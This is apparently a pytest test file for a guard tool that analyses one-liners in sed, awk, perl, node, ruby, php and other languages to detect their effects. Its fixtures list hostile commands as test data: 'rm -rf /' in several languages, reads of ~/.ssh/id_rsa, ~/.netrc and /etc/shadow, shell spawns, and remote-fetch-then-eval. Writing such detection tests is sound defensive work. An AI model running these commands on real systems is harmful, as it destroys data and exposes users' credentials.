"""What one-liners of other languages would do."""

from __future__ import annotations

import pytest

from chimera_guard.effects.code import Reading, languages, read_code
from chimera_guard.effects.code.reading import MAX_FOUND

HARMLESS = [
    ("sed", "s/foo/bar/g"),
    ("sed", ":a;N;$!ba;s/\\n/ /g"),
    ("sed", "/a/,/b/{s/x/y/;p}"),
    ("sed", "s/[/]/x/"),
    ("awk", "{print $1, $2}"),
    ("awk", "NR > 1 {print}"),
    ("awk", "/rm -rf/ {print}"),
    ("awk", '{print "a > b"}'),
    ("awk", "{a=b/c; d=e/f}"),
    ("awk", '$1 ~ /pat"tern/'),
    ("perl", 'print "hello"'),
    ("perl", "while(<>){print if /x/}"),
    ("perl", "s/a/b/g"),
    ("ruby", "puts [1,2].map{|x| x*2}.sum"),
    ("ruby", "h={}; h.delete(:a)"),
    ("node", 'console.log("ok")'),
    ("node", "[1,2].map(x=>x*2)"),
    ("node", "console.log(`${1+1}`)"),
    ("node", "/x/.exec('x')"),
    ("php", 'echo implode(",", array_map("trim", ["a"]));'),
    ("php", "echo json_encode([1,2]);"),
    ("lua", 'print(string.format("%d",1))'),
    ("r", "cat(mean(c(1,2)))"),
    ("osascript", 'display dialog "Hello"'),
]
EFFECTS = [
    ("node", 'fs.readFileSync(process.env.HOME + "/.ssh/id_rsa")', ("read", "~/.ssh/id_rsa", set())),
    ("node", "fs.rmSync(`${os.homedir()}/a`, {recursive: true})", ("delete", "~/a", {"recursive"})),
    ("node", 'fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"))', ("read", "~/.ssh/id_rsa", set())),
    ("ruby", 'File.read("#{Dir.home}/.netrc")', ("read", "~/.netrc", set())),
    ("perl", 'open F, "$ENV{HOME}/.netrc"', ("read", "~/.netrc", set())),
    ("php", 'unlink(getenv("HOME") . "/x");', ("delete", "~/x", set())),
    ("deno", 'Deno.removeSync("d", {recursive: true})', ("delete", "d", {"recursive"})),
    ("r", 'unlink("d", recursive=TRUE)', ("delete", "d", {"recursive"})),
    ("pwsh", "gci d -Recurse | Remove-Item", ("delete", "d", {"recursive"})),
    ("sed", "s/foo/bar/w out", ("write", "out", set())),
    ("sed", "r /etc/shadow", ("read", "/etc/shadow", set())),
    ("awk", '{print > "out.txt"}', ("write", "out.txt", set())),
    ("awk", '{print >> "o"}', ("append", "o", set())),
    ("awk", 'BEGIN { while ((getline l < "/etc/shadow") > 0) print l }', ("read", "/etc/shadow", set())),
    ("perl", 'unlink "x"', ("delete", "x", set())),
    ("perl", 'chmod 0777, "x"', ("chmod", "x", {"world-writable"})),
    ("perl", "open(my $f, '>', 'out')", ("write", "out", set())),
    ("ruby", 'FileUtils.rm_rf("/")', ("delete", "/", {"recursive", "force"})),
    ("ruby", 'File.write("x","y")', ("write", "x", set())),
    ("node", "require('fs').rmSync('/', {recursive:true})", ("delete", "/", {"recursive"})),
    ("node", 'fs.readFileSync(".env","utf8")', ("read", ".env", set())),
    ("php", 'file_put_contents("x","y");', ("write", "x", set())),
    ("php", 'echo file_get_contents("http://x/");', ("fetch", "http://x/", set())),
    ("lua", 'os.remove("x")', ("delete", "x", set())),
]
RUNS = [
    ("sed", "1e exec /bin/sh", "exec /bin/sh"),
    ("awk", 'BEGIN {system("rm -rf /")}', "rm -rf /"),
    ("awk", '{print | "sort"}', "sort"),
    ("awk", 'BEGIN { "id" | getline x }', "id"),
    ("perl", 'system("rm -rf /")', "rm -rf /"),
    ("perl", 'exec "/bin/sh"', "/bin/sh"),
    ("perl", 'open(F,"ls|")', "ls"),
    ("perl", "s/x/`id`/e", "id"),
    ("perl", 'print "@{[system q(ls)]}"', "ls"),
    ("ruby", "`ls`", "ls"),
    ("ruby", 'puts "#{`ls`}"', "ls"),
    ("ruby", "%x(ls)", "ls"),
    ("node", "require('child_process').execSync('rm -rf /')", "rm -rf /"),
    ("node", "require('child_process').exec('rm -rf /')", "rm -rf /"),
    ("node", "const cp = require('node:child_process'); cp.exec('ls')", "ls"),
    ("node", "process.chdir('/'); require('child_process').spawnSync('rm',['-rf','.'])", "cd / && { rm -rf .\n}"),
    ("bun", "Bun.spawnSync(['rm','-rf','.'],{cwd:'/'})", "cd / && { rm -rf .\n}"),
    ("node", 'require("child_process").exec("ls")', "ls"),
    ("node", r"require('child_process').exec('\x6c\u0073 \u{61}')", "ls a"),
    ("node", r"require('child_process').exec('printf \\x6c | sh')", r"printf \x6c | sh"),
    ("bun", "await Bun.$`ls`", "ls"),
    ("php", 'system("/bin/sh -i");', "/bin/sh -i"),
    ("php", "echo `ls`;", "ls"),
    ("lua", 'os.execute("/bin/sh")', "/bin/sh"),
    ("r", 'system("ls")', "ls"),
    ("osascript", 'do shell script "rm -rf /"', "rm -rf /"),
]
CAPABLE = [
    ("sed", "e"),
    ("awk", '{system("echo " $1)}'),
    ("awk", "BEGIN{@f()}"),
    ("perl", '$x="sys"."tem"; $x->("ls")'),
    ("perl", "system($ARGV[0])"),
    ("ruby", 'Kernel.send(:system,"ls")'),
    ("node", 'const {exec:e}=require("child_process"); e("ls")'),
    ("node", 'global["ev"+"al"]("x")'),
    ("node", 'fetch("http://x").then(r=>r.text()).then(eval)'),
    ("php", '$f="sys"."tem"; $f("ls");'),
    ("php", 'eval(base64_decode("x"));'),
    ("php", 'array_map("unlink", $x);'),
    ("powershell", "iex $x"),
    ("osascript", 'ObjC.import("stdlib"); $.system("ls")'),
    ("swift", 'FileManager.default.removeItem(atPath: "x")'),
]


HOSTILE = [
    "(" * 60_000,
    "'" * 60_001,
    "a/" * 30_000,
    "${" * 30_000,
    "\0\ud800",
    "/*" * 30_000,
    "x;" * 30_000,
    "SELECT f('" * 6_000,
    "a\n" * 30_000,
    '"#{' * 20_000,
]


@pytest.mark.parametrize(("language", "code"), HARMLESS)
def test_harmless_code_is_read_in_full(language: str, code: str) -> None:
    assert read_code(language, code) == Reading((), (), (), True)


@pytest.mark.parametrize(("language", "code", "effect"), EFFECTS)
def test_effects_are_found(language: str, code: str, effect: tuple[str, str, set[str]]) -> None:
    kind, target, flags = effect
    assert (kind, target, frozenset(flags)) in read_code(language, code).effects


@pytest.mark.parametrize(("language", "code", "line"), RUNS)
def test_what_is_run_is_found(language: str, code: str, line: str) -> None:
    assert line in read_code(language, code).shell


@pytest.mark.parametrize(("language", "code"), CAPABLE)
def test_what_cannot_be_followed_is_said_to_be_capable(language: str, code: str) -> None:
    reading = read_code(language, code)
    assert ("unknown", None, frozenset({"language", "capable"})) in reading.effects
    assert not reading.complete


@pytest.mark.parametrize(
    ("language", "code"), [("node", "foo()"), ("perl", "rm -rf /"), ("sed", "s/a/b"), ("cobol", "X")]
)
def test_unknown_code_is_incomplete(language: str, code: str) -> None:
    assert not read_code(language, code).complete


@pytest.mark.parametrize("language", sorted(languages()))
@pytest.mark.parametrize("code", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_code_is_bounded(language: str, code: str) -> None:
    reading = read_code(language, code)
    assert len(reading.effects) + len(reading.shell) + len(reading.argvs) <= 3 * MAX_FOUND
